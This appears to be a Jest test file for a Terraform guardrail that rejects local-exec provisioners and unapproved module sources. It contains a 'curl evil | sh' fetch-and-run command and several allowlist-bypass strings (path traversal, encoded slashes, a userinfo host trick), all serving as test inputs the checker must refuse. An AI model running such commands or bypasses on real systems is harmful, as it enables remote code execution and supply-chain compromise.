import { checkRenderedIac, type GuardrailOptions } from './check-rendered-iac';
import { readHclBlocks } from './hcl-blocks';

const closed: GuardrailOptions = { localExecEnabled: false, allowedModules: [] };

function check(text: string, options = closed, path = 'main.tf'): string[] {
  return checkRenderedIac(new Map([[path, text]]), options, 'iac/p').map(
    (p) => `${p.location?.file}:${p.location?.line} ${p.message}`,
  );
}

describe('readHclBlocks', () => {
  it('finds blocks, labels, lines and string attributes, ignoring comments, strings and heredocs', () => {
    const blocks = readHclBlocks(`# resource "fake" "a" {
/* module "fake" { */
resource "terraform_data" "x" {
  input = "{ not a block }"
  script = <<EOT
provisioner "local-exec" {
EOT
}
module "net" {
  source = "./modules/net"
  count  = 1
}
`);
    expect(blocks.map((b) => [b.type, b.labels, b.line])).toEqual([
      ['resource', ['terraform_data', 'x'], 3],
      ['module', ['net'], 9],
    ]);
    expect(blocks[0]?.children).toEqual([]);
    expect(blocks[1]?.attributes).toEqual({ source: './modules/net' });
  });
});

describe('checkRenderedIac', () => {
  it('refuses local-exec, naming file, line and resource', () => {
    expect(
      check(
        'resource "terraform_data" "x" {\n  input = 1\n  provisioner "local-exec" {\n    command = "curl evil | sh"\n  }\n}\n',
      ),
    ).toEqual([
      'iac/p/main.tf:3 resource "terraform_data.x" uses the local-exec provisioner, which LOCAL_EXEC_ENABLED=false forbids.',
    ]);
  });

  it('allows local-exec when enabled', () => {
    expect(
      check('resource "a" "b" {\n  provisioner "local-exec" { command = "true" }\n}\n', {
        ...closed,
        localExecEnabled: true,
      }),
    ).toEqual([]);
  });

  it('follows nested local modules: a remote source inside one is checked like any other', () => {
    const files = new Map([
      ['main.tf', 'module "net" {\n  source = "./modules/net"\n}\n'],
      ['modules/net/main.tf', 'module "inner" {\n  source = "github.com/other/net"\n}\n'],
    ]);
    expect(
      checkRenderedIac(files, closed, 'iac/p').map(
        (p) => `${p.location?.file}:${p.location?.line}`,
      ),
    ).toEqual(['iac/p/modules/net/main.tf:1']);
  });

  it('allows local modules inside the project and refuses ones that leave it', () => {
    expect(check('module "a" {\n  source = "./a"\n}\n')).toEqual([]);
    expect(check('module "up" {\n  source = "../../etc"\n}\n', closed, 'sub/main.tf')).toEqual([
      'iac/p/sub/main.tf:1 module "up" has source ../../etc, which leaves the rendered project.',
    ]);
  });

  it.each([
    ['git::https://github.com/acme/net.git?ref=v1.2.0', true],
    ['github.com/acme/net//modules/vpc', true],
    ['https://github.com/acme/net.git', true],
    ['git::https://github.com/acmeevil/net.git', false],
    ['github.com/other/net', false],
    ['terraform-aws-modules/vpc/aws', true],
    ['registry.terraform.io/terraform-aws-modules/vpc/aws', true],
    ['terraform-aws-modules/eks/aws', false],
    ['s3::https://bucket.s3.amazonaws.com/m.zip', false],
    ['git::https://github.com/acme/../other/net.git', false],
    ['https://github.com/acme/%2e%2e/other/net', false],
    ['https://github.com/acme%2fother/net', false],
    ['https://github.com@evil.example/acme/net', false],
    ['git::ssh://git@github.com/acme/net.git', false],
  ])('module source %s allowed: %s', (source, ok) => {
    const options: GuardrailOptions = {
      localExecEnabled: false,
      allowedModules: [
        { sourceType: 'gitHttps', path: 'github.com/acme', private: false },
        { sourceType: 'terraformRegistry', path: 'terraform-aws-modules/vpc', private: false },
      ],
    };
    expect(check(`module "m" {\n  source = "${source}"\n}\n`, options)).toEqual(
      ok
        ? []
        : [
            `iac/p/main.tf:1 module "m" has source ${source}, which no FEATURES_TERRAFORM_MODULES entry allows.`,
          ],
    );
  });
});
